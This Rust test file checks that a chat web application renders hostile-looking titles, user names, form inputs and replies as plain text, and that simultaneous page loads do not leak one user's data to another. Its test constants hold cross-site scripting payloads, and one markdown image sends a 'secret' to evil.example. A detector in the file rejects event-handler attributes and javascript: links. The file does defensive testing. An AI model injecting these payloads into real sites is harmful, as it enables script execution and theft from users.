//! Text that looks like markup stays text, and nobody's page holds what is another's.

use serde_json::{Value, json};

use crate::harness::{Browser, Engine, Page, Server, browser::PASSWORD, events::Reply, on_both};

const BREAKOUT: &str = "</title></script><script>alert(1)</script>";
/// Fifty characters are a user name.
const NAME: &str = "</title></script><script>alert(7)</script>&quot;";
const REPLY: &str = "</script><script>alert(2)</script><img src=x onerror=alert(3)>\
    <svg onload=alert(4)> [click](javascript:alert(5)) ![leak](https://evil.example/?q=secret) \
    <iframe src=//evil.example></iframe> <style>*{display:none}</style> \u{2028}\n\n\
    ```html\n</code></pre><script>alert(6)</script>\n```\n\n<div onclick=alert(8)>block</div>";

/// Nothing on the page came to life: scripts and styles are the server's own, attributes harmless.
fn assert_inert(page: &Page) {
    let policy = page.header("content-security-policy");
    let nonce = policy
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .expect("nonce");
    for html in [page.html(), scraper::Html::parse_document(&page.source)] {
        for element in html.tree.values().filter_map(|node| node.as_element()) {
            let name = element.name();
            assert!(
                !matches!(name, "iframe" | "object" | "embed" | "video"),
                "{name} on {}",
                page.path
            );
            if matches!(name, "script" | "style") {
                assert_eq!(
                    element.attr("nonce"),
                    Some(nonce),
                    "a foreign {name} on {}",
                    page.path
                );
            }
            for (attribute, value) in element.attrs() {
                assert!(
                    !attribute.starts_with("on"),
                    "{attribute} of {name} on {}",
                    page.path
                );
                assert!(
                    !value.to_lowercase().contains("javascript:"),
                    "{attribute}={value} on {}",
                    page.path
                );
            }
            if name == "img" {
                panic!(
                    "an image that loads by itself: {element:?} on {}",
                    page.path
                );
            }
        }
    }
}

async fn converse(ann: &Browser, id: &str, text: &str) {
    let mut events = ann.follow(id, None).await;
    ann.say(id, text).await;
    events.read_to_final(&mut Reply::default()).await;
}

on_both! {
    async fn row_55_titles_names_messages_and_replies_cannot_leave_their_place(engine: Engine) {
        let server = Server::start(engine, "echo").await;
        let ann = server.visitor();
        let body = json!({ "username": NAME, "email": "ann@example.com", "password": PASSWORD });
        assert_eq!(
            ann.post("/api/auth/register")
                .json(&body)
                .send()
                .await
                .unwrap()
                .status(),
            201
        );
        let made = ann
            .post("/api/conversations")
            .json(&json!({ "title": BREAKOUT }))
            .send()
            .await
            .unwrap();
        let id = made.json::<Value>().await.unwrap()["id"]
            .as_str()
            .unwrap()
            .to_owned();
        converse(&ann, &id, REPLY).await;

        let page = ann.page(&format!("/chat/{id}")).await;
        assert_eq!(page.status, 200);
        assert_inert(&page);
        assert_eq!(page.text("h1"), BREAKOUT);
        assert_eq!(page.text("head title"), format!("{BREAKOUT} · Parlance"));
        assert_eq!(page.text(".sidebar-person"), NAME);
        assert_eq!(page.text("[data-role=user] .bubble"), REPLY);
        let reply = page.text("[data-role=assistant] .prose");
        for shown in ["<script>alert(2)</script>", "onerror=alert(3)", "alert(6)"] {
            assert!(reply.contains(shown), "{shown} is shown as text: {reply}");
        }
        for link in page
            .html()
            .select(&scraper::Selector::parse(".prose a").unwrap())
        {
            assert!(
                link.attr("rel")
                    .is_some_and(|rel| rel.contains("noopener") && rel.contains("noreferrer"))
            );
        }
        for path in ["/chat", "/"] {
            assert_inert(&ann.page(path).await);
        }
    }
}

on_both! {
    async fn row_48_a_page_is_as_harmless_while_a_reply_is_written(engine: Engine) {
        let server = Server::start(engine, "words-100000@50").await;
        let ann = server.member("ann").await;
        let id = ann.conversation().await;
        ann.say(&id, BREAKOUT).await;
        let page = ann.page(&format!("/chat/{id}")).await;
        assert_inert(&page);
        assert_eq!(page.text("[data-role=user] .bubble"), BREAKOUT);
    }
}

on_both! {
    async fn row_55_what_comes_back_into_a_form_stays_in_its_field(engine: Engine) {
        let server = Server::start(engine, "echo").await;
        let visitor = server.visitor();
        let evil = "\"><script>alert(1)</script>";
        let form = visitor.page("/register").await.form("main form");
        let page = visitor
            .go(&form.with("username", evil).with("email", evil))
            .await;
        assert_inert(&page);
        for name in ["username", "email"] {
            assert_eq!(
                page.attribute(&format!("input[name={name}]"), "value")
                    .as_deref(),
                Some(evil)
            );
        }
        let page = visitor
            .page("/login?next=/chat?%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
            .await;
        assert_inert(&page);

        let ann = server.member("ann").await;
        let id = ann.conversation().await;
        let form = ann.page(&format!("/chat/{id}")).await.form("form.composer");
        let text = format!("</textarea>{BREAKOUT}{}", "x".repeat(257 * 1024));
        let page = ann.go(&form.with("text", &text)).await;
        assert_inert(&page);
        assert_eq!(
            page.form("form.composer").value("text"),
            Some(text.as_str())
        );
        assert_inert(
            &ann.page("/chat?q=%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E")
                .await,
        );
    }
}

on_both! {
    async fn row_56_pages_made_at_the_same_time_do_not_mix(engine: Engine) {
        let server = Server::start(engine, "echo").await;
        let mut people = Vec::new();
        for name in ["xxannxx", "xxbobxx", "xxevexx"] {
            let person = server.member(name).await;
            let id = person.conversation().await;
            converse(&person, &id, &format!("secret of {name}")).await;
            people.push((name, person, format!("/chat/{id}")));
        }
        let visits = (0..30).map(|turn| {
            let (name, person, path) = &people[turn % people.len()];
            async move { (*name, person.page(path).await) }
        });
        for (name, page) in futures::future::join_all(visits).await {
            assert_eq!(page.status, 200);
            for (other, _, _) in people.iter().filter(|(other, _, _)| *other != name) {
                let place = page.source.find(other);
                let around = place.map(|place| {
                    page.source[..place + 40]
                        .chars()
                        .rev()
                        .take(300)
                        .collect::<String>()
                });
                let around = around.map(|text| text.chars().rev().collect::<String>());
                assert_eq!(around, None, "{other} on the page of {name}");
            }
            assert_eq!(page.text(".sidebar-person"), name);
            assert_eq!(
                page.text("[data-role=user] .bubble"),
                format!("secret of {name}")
            );
        }
    }
}
